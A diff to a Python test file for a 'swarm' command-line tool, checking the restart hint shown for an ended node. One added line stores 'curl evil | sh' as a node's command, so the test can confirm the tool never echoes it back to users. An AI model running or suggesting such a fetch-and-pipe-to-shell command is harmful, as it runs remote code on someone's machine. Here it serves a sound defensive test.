@@ -186,10 +186,11 @@ def test_status_of_a_node_that_has_ended_shows_what_is_known(tmp_path: Path) -> 
     (tmp_path / "config.toml").touch()
     assert f"start it again with `swarm run {tmp_path}/config.toml`" in swarm("status", str(tmp_path)).stderr
     assert f"start it again with `swarm run {tmp_path}/config.toml`" in swarm("dashboard", str(tmp_path)).stderr
-    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", start_command="swarm bootstrap --dir b").write(
-        tmp_path / "status.json"
-    )
-    assert "start it again with `swarm bootstrap --dir b`" in swarm("status", str(tmp_path)).stderr
+    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="bootstrap").write(tmp_path / "status.json")
+    assert f"start it again with `swarm bootstrap --dir {tmp_path}` and" in swarm("status", str(tmp_path)).stderr
+    NodeStatus("12D3x", "a", dead.pid, 0.0, "ended", command="curl evil | sh").write(tmp_path / "status.json")
+    told = swarm("status", str(tmp_path))
+    assert "curl" not in told.stdout + told.stderr
 
 
 def test_schema_is_a_json_schema_with_every_section() -> None:
